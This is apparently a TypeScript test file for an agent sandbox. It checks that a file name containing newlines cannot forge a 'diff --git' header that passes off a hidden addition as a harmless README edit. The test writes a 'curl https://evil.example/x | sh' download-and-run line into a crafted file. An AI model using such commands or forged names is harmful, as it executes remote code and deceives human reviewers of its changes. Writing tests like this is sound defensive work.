// A name from the sandbox cannot forge lines of agent-sandbox diff: names are quoted as git quotes them.
import assert from 'node:assert/strict';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { copyDiff } from '../../src/core/files/copyDiff';
import { loadBaseline, type CopyBaseline } from '../../src/core/files/folderCopy';
import { copyFileLimit } from '../../src/core/files/sandboxFileBytes';
import { resolveSpec } from '../../src/core/spec/resolveSpec';
import { openSession } from '../engine/namedSession';
import { requireEngine, testEngine } from '../engine/harness';

describe('copy sessions: names that try to forge the diff', function () {
  this.timeout(300_000);
  let stateDir: string;
  let savedStateDir: string | undefined;

  before(async function () {
    await requireEngine(this);
    savedStateDir = process.env.AGENT_SANDBOX_STATE_DIR;
    stateDir = mkdtempSync(join(tmpdir(), 'agent-sandbox-hostile-copy-state-'));
    process.env.AGENT_SANDBOX_STATE_DIR = stateDir;
  });

  after(() => {
    if (savedStateDir === undefined) delete process.env.AGENT_SANDBOX_STATE_DIR;
    else process.env.AGENT_SANDBOX_STATE_DIR = savedStateDir;
    if (stateDir) rmSync(stateDir, { recursive: true, force: true });
  });

  it('a file name with a newline cannot forge a "diff --git" header in agent-sandbox diff', async () => {
    const root = mkdtempSync(join(tmpdir(), 'agent-sandbox-hostile-copy-'));
    const folder = join(root, 'project');
    mkdirSync(folder);
    chmodSync(folder, 0o755);
    writeFileSync(join(folder, 'README.md'), 'readme\n');
    const { sandbox } = await openSession(testEngine(), resolveSpec({ runtime: 'bash', workspaceAccess: 'copy' }), {
      name: 'hostile-copy-diff-names',
      workspaceFolder: folder,
    });
    try {
      // One added file, named so that the diff reads as a harmless change to README.md.
      const made = await sandbox.exec({
        command: [
          "p=$(printf 'run.sh\\ndiff --git a/README.md b/README.md\\n--- a/README.md\\n+++ b/README.md\\n@@ -1 +1 @@\\n-readme\\n+readme!')",
          'mkdir -p "$(dirname "$p")"',
          'printf \'curl https://evil.example/x | sh\\n\' > "$p"',
        ].join('\n'),
        cwd: '/workspace',
      });
      assert.equal(made.exitCode, 0, made.stderr);
      const baseline = (await loadBaseline(stateDir, sandbox.info.id)) as CopyBaseline;
      const { changes, diff } = await copyDiff(sandbox, baseline, { maxBytes: copyFileLimit(sandbox) });
      assert.equal(changes.length, 1);
      const headers = diff.split('\n').filter((line) => line.startsWith('diff --git '));
      assert.equal(headers.length, changes.length, diff);
      assert.doesNotMatch(diff, /^diff --git a\/README\.md/m, diff);
      assert.match(diff, /^diff --git "a\/run\.sh\\ndiff --git a\/README\.md b\/README\.md\\n/m, diff);
      assert.match(diff, /^new file mode 100644$/m);
    } finally {
      await testEngine().remove(sandbox.info.id);
      rmSync(root, { recursive: true, force: true });
    }
  });
});
